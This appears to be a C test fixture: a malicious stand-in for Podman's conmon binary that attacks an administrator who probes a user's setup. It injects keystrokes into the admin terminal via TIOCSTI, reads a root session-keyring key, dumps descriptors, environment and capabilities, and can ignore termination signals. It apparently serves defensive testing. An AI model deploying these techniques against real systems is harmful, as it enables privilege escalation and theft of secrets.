/*
 * SPDX-FileCopyrightText: The Cadastre authors
 * SPDX-License-Identifier: Apache-2.0
 *
 * A conmon_path of a user that attacks the terminal of the administrator who probes the user. It
 * types a line into the terminal, appends what it found to ~/found, and executes the real conmon.
 * If there is a file ~/hang, it ignores SIGTERM and keeps running.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

extern char **environ;

static void type_into_the_terminal(FILE *found)
{
    int tty = open("/dev/tty", O_RDWR | O_NONBLOCK);
    fprintf(found, "tty %s\n", tty < 0 ? strerrorname_np(errno) : "opened");
    for (const char *key = "typed-by-zoe\n"; tty >= 0 && *key != '\0'; key++)
        fprintf(found, "key %s\n", ioctl(tty, TIOCSTI, key) < 0 ? strerrorname_np(errno) : "typed");
}

/* Podman was started with these descriptors. */
static void list_descriptors(FILE *found, const char *who, pid_t pid)
{
    char folder[64], path[512], target[512];
    snprintf(folder, sizeof folder, "/proc/%d/fd", pid);
    DIR *all = opendir(folder);
    for (struct dirent *fd; all != NULL && (fd = readdir(all)) != NULL;) {
        snprintf(path, sizeof path, "%s/%s", folder, fd->d_name);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length >= 0)
            fprintf(found, "%s %s %.*s\n", who, fd->d_name, (int)length, target);
    }
    if (all != NULL)
        closedir(all);
}

/* A process that inherits root's session keyring can read the keys in it, session-keyring(7). */
static void read_a_key_of_root(FILE *found)
{
    char secret[64] = "";
    long key = syscall(SYS_request_key, "user", "key-of-root", NULL, 0);
    /* 11 is KEYCTL_READ. */
    long length = key < 0 ? -1 : syscall(SYS_keyctl, 11, key, secret, sizeof secret - 1, 0);
    fprintf(found, "key-of-root %s\n", length < 0 ? strerrorname_np(errno) : secret);
}

static void say_who_we_are(FILE *found)
{
    gid_t groups[64];
    /* In the user namespace groups have other numbers. */
    int count = geteuid() == 0 ? 0 : getgroups(64, groups);
    for (int i = 0; i < count; i++)
        fprintf(found, "group %u\n", groups[i]);
    for (char **name = environ; *name != NULL; name++)
        fprintf(found, "environment %s\n", *name);
    fprintf(found, "session %d of podman %d\n", getsid(0), getppid());
    char line[256];
    FILE *status = fopen("/proc/self/status", "r");
    while (status != NULL && fgets(line, sizeof line, status) != NULL)
        if (strncmp(line, "NoNewPrivs", 10) == 0 || strncmp(line, "Cap", 3) == 0)
            fputs(line, found);
    if (status != NULL)
        fclose(status);
}

int main(int argc, char **argv)
{
    const char *home = getenv("HOME");
    if (argc < 1 || home == NULL || chdir(home) < 0)
        return 1;
    FILE *found = fopen("found", "ae");
    if (found == NULL)
        return 1;
    type_into_the_terminal(found);
    list_descriptors(found, "podman-descriptor", getppid());
    read_a_key_of_root(found);
    say_who_we_are(found);
    fclose(found);
    signal(SIGTERM, SIG_IGN);
    signal(SIGINT, SIG_IGN);
    for (int i = 0; access("hang", F_OK) == 0 && i < 600; i++)
        usleep(100000);
    signal(SIGTERM, SIG_DFL);
    signal(SIGINT, SIG_DFL);
    execv("/usr/bin/conmon", argv);
    return 1;
}
